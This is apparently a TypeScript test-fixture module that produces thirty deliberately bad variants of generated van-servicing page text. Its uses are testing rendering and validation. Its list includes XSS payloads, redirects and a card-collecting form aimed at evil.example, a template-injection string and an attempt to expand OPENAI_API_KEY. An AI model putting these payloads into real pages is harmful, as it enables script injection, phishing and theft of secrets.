import type { LocationText } from "../writer/location-text.ts";

/** Changes the normal text of a location, by name, into the model's output. */
type Poison = (text: LocationText, name: string) => unknown;

/** Appends text to the first sentence. */
const addTo = (sentences: readonly string[], poison: string): string[] =>
  sentences.map((sentence, i) => (i === 0 ? `${sentence} ${poison}` : sentence));

function inParagraph(poison: string): Poison {
  return (text) => {
    const [first, ...rest] = text.servicing;
    const [opening = [], ...others] = first?.paragraphs ?? [];
    const poisoned = { ...first, paragraphs: [addTo(opening, poison), ...others] };
    return { ...text, servicing: [poisoned, ...rest] };
  };
}

function inAnswer(poison: string): Poison {
  return (text) => {
    const [first, ...rest] = text.faqs;
    if (!first) return text;
    const poisoned = { ...first, answer: addTo(first.answer, poison) };
    return { ...text, faqs: [poisoned, ...rest] };
  };
}

function asParagraphs(paragraph: string): Poison {
  const paragraphs = [[paragraph]];
  const replace = (sections: LocationText["mot"]) =>
    sections.map((section) => ({ ...section, paragraphs }));
  return (text) => ({ ...text, servicing: replace(text.servicing), mot: replace(text.mot) });
}

/**
 * The thirty harmful texts in the order of their modes: markup, attempts to escape it, unusual
 * characters, nonsense.
 */
const poisons: readonly Poison[] = [
  inParagraph("<script>alert(1)</script>"),
  inParagraph("<img src=x onerror=alert(1)>"),
  inParagraph('<a href="javascript:alert(1)">quotes</a>'),
  inParagraph("<svg/onload=alert(1)>"),
  inParagraph('<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
  inParagraph("<style>*{display:none}</style>"),
  inParagraph("<base href=//evil.example>"),
  inParagraph('<meta http-equiv="refresh" content="0;url=//evil.example">'),
  inParagraph('<form action="//evil.example"><input name="card"></form>'),
  inAnswer("</script><script>alert(1)</script>"),
  (text) => ({
    ...text,
    servicingMetaTitle: `${text.servicingMetaTitle.slice(0, 30)}" onmouseover="alert(1)`,
  }),
  (text) => ({
    ...text,
    motMetaDescription: `${text.motMetaDescription.slice(0, 90)}\n\u0000and more`,
  }),
  inAnswer("Line\u2028break and paragraph\u2029break."),
  inParagraph("\u202egnicivres nav\u202c"),
  inParagraph("v̷̡̛̖̗a̸̢̧̛̘n̵̨̛̙̜ s̶̡̛̝̞e̷̢̛̟̠ṛ̸̡̛̤v̵̢̛̥̦i̶̧̛̩̪c̷̨̛̫̬ḙ̸̡̛̮"),
  inParagraph("{{constructor.constructor('alert(1)')()}}"),
  inParagraph("${process.env.OPENAI_API_KEY}"),
  inParagraph("See data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== for quotes."),
  inParagraph("<!-- the rest of the page"),
  inParagraph("van ".repeat(262_144)),
  () => "",
  () => "   \n  ",
  asParagraphs(
    "I'm sorry, but I can't help with writing this text about vans, so nothing of use follows here today for anybody.",
  ),
  inParagraph("As an AI language model, I have no opinion about garages."),
  asParagraphs(
    "Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor incididunt ut labore et dolore magna aliqua ut enim ad minim veniam.",
  ),
  (text) => `\`\`\`json\n${JSON.stringify(text)}\n\`\`\``,
  (text) => ({ ...text, faqs: { question: text.faqs[0]?.question, answer: text.faqs[0]?.answer } }),
  (text) => ({
    ...text,
    faqs: Array.from({ length: 500 }, (_, i) => text.faqs[i % text.faqs.length]),
  }),
  (text, name) =>
    JSON.stringify(text).replaceAll(name, name === "Timbuktu" ? "Samarkand" : "Timbuktu"),
  inParagraph("Or try [a cheaper garage](https://rival-garages.example/vans) instead."),
];

/** Returns the model output of the mode `poison-{number}`, based on a normal text. */
export function buildPoisonText(number: number, text: LocationText, locationName: string): string {
  const output = poisons[number - 1]?.(text, locationName) ?? text;
  return typeof output === "string" ? output : JSON.stringify(output);
}
